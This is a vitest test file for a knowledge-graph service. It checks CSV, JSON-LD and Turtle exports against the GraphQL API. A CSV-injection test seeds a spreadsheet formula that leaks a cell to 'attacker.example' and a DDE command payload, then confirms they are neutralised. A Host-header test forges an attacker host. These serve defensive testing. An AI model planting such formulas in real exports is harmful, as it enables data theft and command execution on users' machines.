import { request as httpRequest } from "node:http";
import { parse } from "csv-parse/sync";
import jsonld from "jsonld";
import { Parser, type Quad } from "n3";
import { describe, expect, it } from "vitest";
import { ConfigError, loadConfig } from "../src/config.js";
import { CSV_COLUMNS } from "../src/export/facts-csv.js";
import { useTestServer } from "./support/http.js";

/**
 * The exports (/export/facts.csv, graph.jsonld, graph.ttl) read back with real parsers
 * (csv-parse, jsonld, n3) and compared with what the API says.
 */

const SCHEMA = "http://schema.org/";
const OA = "http://www.w3.org/ns/oa#";
const PROV = "http://www.w3.org/ns/prov#";
const RDF_TYPE = "http://www.w3.org/1999/02/22-rdf-syntax-ns#type";
/** The test server's PUBLIC_BASE_URL: every IRI of the RDF exports is under it. */
const BASE = "https://imss-graph.example.org/kg";

interface ApiFact {
  key: string;
  value: number | null;
  unit: string;
  statistic: string;
  qualifiers: string[];
  garbled: boolean;
  deprecated: boolean;
  variable: { key: string; name: string };
  about: { key: string; name: string };
  period: { key: string };
  comparedTo: { key: string } | null;
  conflicts: { fact: { key: string }; note: string }[];
  citations: {
    quote: string;
    start: number;
    end: number;
    garbled: string | null;
    document: { key: string; date: string };
  }[];
}

type CsvRow = Record<(typeof CSV_COLUMNS)[number], string>;

/** No network: any context or document the JSON-LD processor would fetch is refused. */
const refuseEveryUrl = async (url: string): Promise<never> => {
  throw new Error(`the JSON-LD processor tried to fetch ${url}`);
};

describe("exports", () => {
  const running = useTestServer({ publicBaseUrl: BASE });

  async function apiFacts(filter: Record<string, unknown> = {}): Promise<ApiFact[]> {
    const facts: ApiFact[] = [];
    let after: string | null = null;
    type Page = {
      facts: { edges: { node: ApiFact }[]; pageInfo: { hasNextPage: boolean; endCursor: string } };
    };
    for (;;) {
      const { body }: { body: { data?: Page; errors?: unknown } } = await running.server.graphql<{
        facts: {
          edges: { node: ApiFact }[];
          pageInfo: { hasNextPage: boolean; endCursor: string };
        };
      }>(
        `query ($filter: FactFilter, $after: String) {
          facts(filter: $filter, first: 100, after: $after) {
            edges { node { key value unit statistic qualifiers garbled deprecated
              variable { key name } about { key name } period { key } comparedTo { key }
              conflicts { fact { key } note }
              citations { quote start end garbled document { key date } } } }
            pageInfo { hasNextPage endCursor }
          }
        }`,
        { filter, after },
      );
      expect(body.errors).toBeUndefined();
      const page: Page["facts"] = body.data!.facts;
      facts.push(...page.edges.map((e) => e.node));
      if (!page.pageInfo.hasNextPage) return facts;
      after = page.pageInfo.endCursor;
    }
  }

  async function download(path: string): Promise<{ status: number; text: string; type: string }> {
    const response = await fetch(`${running.server.url}${path}`);
    return {
      status: response.status,
      text: await response.text(),
      type: response.headers.get("content-type") ?? "",
    };
  }

  async function csvRows(query = ""): Promise<CsvRow[]> {
    const { status, text, type } = await download(`/export/facts.csv${query}`);
    expect(status).toBe(200);
    expect(type).toMatch(/^text\/csv/);
    expect(text.startsWith(`${CSV_COLUMNS.join(",")}\r\n`)).toBe(true);
    return parse(text, { columns: true, record_delimiter: "\r\n" }) as CsvRow[];
  }

  it("the CSV has every fact and citation of the seeds, with the API's values and quotes", async () => {
    const facts = await apiFacts();
    expect(facts.length).toBeGreaterThan(50);
    const rows = await csvRows();
    const byPair = new Map(rows.map((r) => [`${r.fact}|${r.document}|${r.start}`, r]));
    let citations = 0;
    for (const fact of facts) {
      expect(fact.citations.length).toBeGreaterThan(0);
      for (const c of fact.citations) {
        citations += 1;
        const row = byPair.get(`${fact.key}|${c.document.key}|${c.start}`);
        expect(row, `${fact.key} cites ${c.document.key} at ${c.start}`).toBeDefined();
        expect(row!.value === "" ? null : Number(row!.value)).toBe(fact.value);
        expect(row!.quote).toBe(c.quote);
        expect(Number(row!.end)).toBe(c.end);
        expect(row!.document_date).toBe(c.document.date);
        expect(row!.unit).toBe(fact.unit);
        expect(row!.statistic).toBe(fact.statistic);
        expect(row!.qualifiers).toBe(fact.qualifiers.join(";"));
        expect(row!.variable).toBe(fact.variable.key);
        expect(row!.variable_name).toBe(fact.variable.name);
        expect(row!.about).toBe(fact.about.key);
        expect(row!.about_name).toBe(fact.about.name);
        expect(row!.period).toBe(fact.period.key);
        expect(row!.garbled).toBe(String(fact.garbled));
        expect(row!.deprecated).toBe("false");
        expect(row!.compared_to).toBe(fact.comparedTo?.key ?? "");
        expect(row!.conflicts_with).toBe(fact.conflicts.map((c) => c.fact.key).join(";"));
        expect(row!.citation_garbled).toBe(String(c.garbled !== null));
        expect(row!.citation_garbled_note).toBe(c.garbled ?? "");
      }
    }
    expect(rows).toHaveLength(citations);
    // The seeds have each of them, so that the comparisons above compare something.
    expect(rows.some((r) => r.compared_to !== "")).toBe(true);
    expect(rows.some((r) => r.conflicts_with !== "")).toBe(true);
    expect(rows.some((r) => r.citation_garbled === "true")).toBe(true);
  });

  it("the JSON-LD expands with no network, and every TextPositionSelector gives its exact", async () => {
    const { status, text, type } = await download("/export/graph.jsonld");
    expect(status).toBe(200);
    expect(type).toMatch(/^application\/ld\+json/);
    const doc = JSON.parse(text);
    expect(typeof doc["@context"]).toBe("object");
    const expanded = (await jsonld.expand(doc, {
      documentLoader: refuseEveryUrl as never,
    })) as Record<string, unknown>[];
    const nodes = new Map(expanded.map((n) => [n["@id"] as string, n]));
    const first = (n: Record<string, unknown>, p: string) =>
      (n[p] as Record<string, unknown>[] | undefined)?.[0];
    const typed = (t: string) =>
      expanded.filter((n) => ((n["@type"] as string[] | undefined) ?? []).includes(t));

    const annotations = typed(`${OA}Annotation`);
    const facts = await apiFacts();
    expect(annotations).toHaveLength(facts.reduce((n, f) => n + f.citations.length, 0));
    for (const annotation of annotations) {
      const target = first(annotation, `${OA}hasTarget`)!;
      const source = first(target, `${OA}hasSource`)!["@id"] as string;
      const documentText = first(nodes.get(source)!, `${SCHEMA}text`)!["@value"] as string;
      const selectors = target[`${OA}hasSelector`] as Record<string, unknown>[];
      const of = (t: string) => selectors.find((s) => (s["@type"] as string[]).includes(t))!;
      const position = of(`${OA}TextPositionSelector`);
      const quote = of(`${OA}TextQuoteSelector`);
      const start = Number(first(position, `${OA}start`)!["@value"]);
      const end = Number(first(position, `${OA}end`)!["@value"]);
      const exact = first(quote, `${OA}exact`)!["@value"];
      // Code points, as the Web Annotation model counts them.
      expect(Array.from(documentText).slice(start, end).join("")).toBe(exact);
      const prefix = first(quote, `${OA}prefix`)!["@value"] as string;
      expect(Array.from(documentText).slice(0, start).join("").endsWith(prefix)).toBe(true);
    }
    expect(typed(`${SCHEMA}Observation`)).toHaveLength(facts.length);
    expect(typed(`${SCHEMA}StatisticalVariable`).length).toBeGreaterThan(5);
    const documents = typed(`${SCHEMA}CreativeWork`);
    expect(documents).toHaveLength(2);
    for (const d of documents)
      expect(first(d, `${SCHEMA}sha256`)!["@value"]).toMatch(/^[0-9a-f]{64}$/);
    // Bilingual labels.
    const imss = [...nodes.values()].find((n) => String(n["@id"]).endsWith("/entity/imss"))!;
    const languages = new Set(
      (imss["http://www.w3.org/2000/01/rdf-schema#label"] as { "@language": string }[]).map(
        (l) => l["@language"],
      ),
    );
    expect([...languages].sort()).toEqual(["en", "es"]);
  });

  it("the Turtle parses with n3, has the JSON-LD's triples, and every fact a value, a variable and a derivation", async () => {
    const ttl = await download("/export/graph.ttl");
    expect(ttl.status).toBe(200);
    expect(ttl.type).toMatch(/^text\/turtle/);
    const quads: Quad[] = new Parser({ format: "text/turtle" }).parse(ttl.text);
    const json = JSON.parse((await download("/export/graph.jsonld")).text);
    const nquads = (await jsonld.toRDF(json, {
      format: "application/n-quads",
      documentLoader: refuseEveryUrl as never,
    })) as unknown as string;
    const fromJsonLd = nquads.split("\n").filter((line) => line.trim() !== "");
    expect(quads.length).toBe(fromJsonLd.length);
    // The same triples, blank nodes apart.
    const named = (lines: string[]) => lines.filter((l) => !l.includes("_:")).sort();
    const fromTurtle = new Parser({ format: "text/turtle" }).parse(ttl.text).map((q) => q);
    const { Writer } = await import("n3");
    const ntriples = await new Promise<string>((resolve, reject) => {
      const writer = new Writer({ format: "N-Triples" });
      writer.addQuads(fromTurtle);
      writer.end((error, result) => (error ? reject(error) : resolve(result)));
    });
    const turtleLines = ntriples.split("\n").filter((l) => l.trim() !== "");
    expect(named(turtleLines).length).toBe(named(fromJsonLd).length);

    const facts = quads
      .filter((q) => q.predicate.value === RDF_TYPE && q.object.value === `${SCHEMA}Observation`)
      .map((q) => q.subject.value);
    const api = await apiFacts();
    expect(facts).toHaveLength(api.length);
    const withValue = new Set(api.filter((f) => f.value !== null).map((f) => f.key));
    const of = (subject: string, predicate: string) =>
      quads.filter((q) => q.subject.value === subject && q.predicate.value === predicate);
    for (const fact of facts) {
      const key = decodeURIComponent(fact.split("/facts/")[1] ?? "");
      if (withValue.has(key)) expect(of(fact, `${SCHEMA}value`), key).toHaveLength(1);
      expect(of(fact, `${SCHEMA}variableMeasured`), key).toHaveLength(1);
      expect(of(fact, `${PROV}wasDerivedFrom`).length, key).toBeGreaterThan(0);
    }
  });

  it("filters give the rows of facts(filter:), in every export", async () => {
    const [someFact] = await apiFacts();
    const filters: Record<string, string | boolean>[] = [
      { variable: someFact!.variable.key },
      { about: someFact!.about.key },
      { period: "year-2021" },
      { document: "002_09b982dd34e5a0da" },
      { statistic: "DAILY_AVERAGE" },
      { garbled: true },
      { garbled: false, statistic: "TOTAL" },
      { includeDeprecated: true },
    ];
    for (const filter of filters) {
      const query = `?${new URLSearchParams(
        Object.entries(filter).map(([k, v]) => [k, String(v)]),
      )}`;
      const expected = (await apiFacts(filter)).map((f) => f.key).sort();
      const rows = await csvRows(query);
      expect([...new Set(rows.map((r) => r.fact))].sort(), query).toEqual(expected);
      const graph = JSON.parse((await download(`/export/graph.jsonld${query}`)).text);
      const observations = (graph["@graph"] as Record<string, unknown>[])
        .filter((n) => n["@type"] === "schema:Observation")
        .map((n) => n["schema:identifier"])
        .sort();
      expect(observations, query).toEqual(expected);
    }
  }, 60_000); // 8 filters, each through the API and two exports: slow on a loaded machine

  it("bad filter values get a 400 naming the parameter", async () => {
    const cases: [string, string][] = [
      ["statistic=SOMETIMES", "statistic"],
      ["garbled=maybe", "garbled"],
      ["includeDeprecated=1", "includeDeprecated"],
      ["variable=no-such-variable", "variable"],
      ["about=no-such-entity", "about"],
      ["document=no-such-document", "document"],
      ["period=", "period"],
      ["colour=blue", "colour"],
      ["variable=a&variable=b", "variable"],
    ];
    for (const path of ["/export/facts.csv", "/export/graph.jsonld", "/export/graph.ttl"]) {
      for (const [query, parameter] of cases) {
        const response = await fetch(`${running.server.url}${path}?${query}`);
        expect(response.status, `${path}?${query}`).toBe(400);
        const body = (await response.json()) as { error: string; parameter: string; code: string };
        expect(body.parameter).toBe(parameter);
        expect(body.error).toContain(`"${parameter}"`);
        // A key that names nothing is NOT_FOUND, as the API says; anything else is malformed.
        expect(body.code, `${path}?${query}`).toBe(
          /no-such/.test(query) ? "NOT_FOUND" : "BAD_USER_INPUT",
        );
      }
    }
  });

  it("the RDF exports carry each fact's conflicts and comparedTo, and each citation's garbled flag", async () => {
    const quads: Quad[] = new Parser({ format: "text/turtle" }).parse(
      (await download("/export/graph.ttl")).text,
    );
    const IMSS = `${BASE}/vocab#`;
    const objects = (subject: string, predicate: string) =>
      quads
        .filter((q) => q.subject.value === subject && q.predicate.value === predicate)
        .map((q) => q.object.value)
        .sort();
    const factIri = (key: string) => `${BASE}/facts/${encodeURIComponent(key)}`;
    const api = await apiFacts();
    for (const fact of api) {
      const iri = factIri(fact.key);
      expect(objects(iri, `${IMSS}conflictsWith`), fact.key).toEqual(
        fact.conflicts.map((c) => factIri(c.fact.key)).sort(),
      );
      expect(objects(iri, `${IMSS}comparedTo`), fact.key).toEqual(
        fact.comparedTo ? [`${BASE}/entity/${fact.comparedTo.key}`] : [],
      );
      // Each conflict's note, in a node of its own.
      const notes = objects(iri, `${IMSS}conflict`).flatMap((node) =>
        objects(node, "http://www.w3.org/2000/01/rdf-schema#comment"),
      );
      expect(notes, fact.key).toEqual(fact.conflicts.map((c) => c.note).sort());
    }
    const annotations = quads.filter(
      (q) => q.predicate.value === `${OA}hasBody` && q.subject.termType === "NamedNode",
    );
    const garbledNotes = annotations.flatMap((a) => objects(a.subject.value, `${IMSS}garbledNote`));
    const apiNotes = api.flatMap((f) => f.citations.flatMap((c) => (c.garbled ? [c.garbled] : [])));
    expect(garbledNotes.sort()).toEqual(apiNotes.sort());
    expect(apiNotes.length).toBeGreaterThan(0);
    for (const a of annotations) expect(objects(a.subject.value, `${IMSS}garbled`)).toHaveLength(1);
  });

  it("names everything under PUBLIC_BASE_URL: downloads through two Host headers, or a forged one, are identical", async () => {
    const port = new URL(running.server.url).port;
    /** A GET with the Host header given (fetch would send its own). */
    const withHost = (path: string, host: string) =>
      new Promise<string>((resolve, reject) => {
        const req = httpRequest(
          { host: "127.0.0.1", port, path, headers: { host } },
          (response) => {
            let text = "";
            response.setEncoding("utf8");
            response.on("data", (chunk: string) => (text += chunk));
            response.on("end", () => resolve(text));
          },
        );
        req.on("error", reject);
        req.end();
      });
    /** The triples of a Turtle text, blank nodes unnamed (n3 numbers them per process). */
    const triples = (ttl: string) =>
      new Parser({ format: "text/turtle" })
        .parse(ttl)
        .map((q) =>
          [q.subject, q.predicate, q.object]
            .map((t) => (t.termType === "BlankNode" ? "_" : `${t.termType}:${t.value}`))
            .join(" "),
        )
        .sort();
    for (const path of ["/export/graph.ttl", "/export/graph.jsonld?variable=facility-count"]) {
      const [local, loopback, forged] = await Promise.all([
        withHost(path, `localhost:${port}`),
        withHost(path, `127.0.0.1:${port}`),
        withHost(path, "attacker.example"),
      ]);
      expect(local.length).toBeGreaterThan(1_000);
      expect(local).not.toMatch(/localhost|127\.0\.0\.1|attacker/);
      expect(local).toContain(`${BASE}/entity/imss`);
      if (path.includes(".ttl")) {
        expect(triples(loopback)).toEqual(triples(local));
        expect(triples(forged)).toEqual(triples(local));
      } else {
        expect(loopback).toBe(local);
        expect(forged).toBe(local);
      }
    }
  });

  it("PUBLIC_BASE_URL is checked: an http(s) URL, default http://localhost:PORT", () => {
    expect(loadConfig({}).http.publicBaseUrl).toBe("http://localhost:4000");
    expect(loadConfig({ PORT: "8080" }).http.publicBaseUrl).toBe("http://localhost:8080");
    expect(loadConfig({ PUBLIC_BASE_URL: "https://kg.example.org/imss/" }).http.publicBaseUrl).toBe(
      "https://kg.example.org/imss",
    );
    for (const bad of ["kg.example.org", "ftp://kg.example.org", "https://kg.example.org/?a=1"]) {
      expect(() => loadConfig({ PUBLIC_BASE_URL: bad })).toThrow(ConfigError);
      expect(() => loadConfig({ PUBLIC_BASE_URL: bad })).toThrow(/PUBLIC_BASE_URL/);
    }
  });

  it("neutralises text cells a spreadsheet would run as formulas, and leaves numbers alone", async () => {
    const { driver } = running;
    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';
    await driver.executeQuery(
      `CREATE (e:Entity:Place {key: 'zz-csv-injection', kind: 'Place', name: $formula})
       CREATE (f:Fact {key: 'zz-csv-injection-fact', value: -3.5, unit: 'count',
               statistic: 'total', qualifier: 'exact', garbled: false, deprecated: false,
               variable: 'zz-csv-injection'})-[:ABOUT]->(e)
       CREATE (f)-[:MEASURES]->(:Variable {key: 'zz-csv-injection-variable',
               name: $command})`,
      { formula, command: "+cmd|' /C calc'!A0" },
    );
    try {
      const { text } = await download("/export/facts.csv?about=zz-csv-injection");
      // Quoted and prefixed with a single quote, as OWASP recommends.
      expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
      const [row] = parse(text, { columns: true, record_delimiter: "\r\n" }) as CsvRow[];
      expect(row!.about_name).toBe(`'${formula}`);
      expect(row!.value).toBe("-3.5");
      expect(row!.variable_name).toBe("'+cmd|' /C calc'!A0");
      for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    } finally {
      await driver.executeQuery(
        "MATCH (n) WHERE n.key STARTS WITH 'zz-csv-injection' DETACH DELETE n",
      );
    }
  });

  describe("a client that disconnects mid-export", () => {
    const FACTS = 60_000;

    it("stops the export and leaves no open transaction", async () => {
      const { driver } = running;
      const openTransactions = async () => {
        const { records } = await driver.executeQuery("SHOW TRANSACTIONS YIELD currentQuery");
        return records.filter((r) => !String(r.get("currentQuery")).includes("SHOW TRANSACTIONS"))
          .length;
      };
      await driver.executeQuery(
        `UNWIND range(1, $n) AS i
         CREATE (:Fact {key: 'zz-export-test-' + toString(i), value: toFloat(i), unit: 'count',
                 statistic: 'total', qualifier: 'exact', garbled: false, deprecated: false,
                 variable: 'zz-export-test'})`,
        { n: FACTS },
      );
      try {
        const before = await openTransactions();
        const controller = new AbortController();
        const response = await fetch(`${running.server.url}/export/facts.csv`, {
          signal: controller.signal,
        });
        expect(response.status).toBe(200);
        const reader = response.body!.getReader();
        const { value } = await reader.read();
        expect(value!.length).toBeGreaterThan(0);
        expect(await openTransactions()).toBe(before + 1);
        controller.abort();
        await reader.cancel().catch(() => {});
        await expect.poll(openTransactions, { timeout: 10_000, interval: 100 }).toBe(before);
        // The server still answers exports.
        expect((await csvRows("?statistic=DAILY_AVERAGE")).length).toBeGreaterThan(0);
      } finally {
        await driver.executeQuery(
          "MATCH (f:Fact) WHERE f.key STARTS WITH 'zz-export-test-' DETACH DELETE f",
        );
      }
    }, 90_000); // 60,000 facts written, then read
  });
});
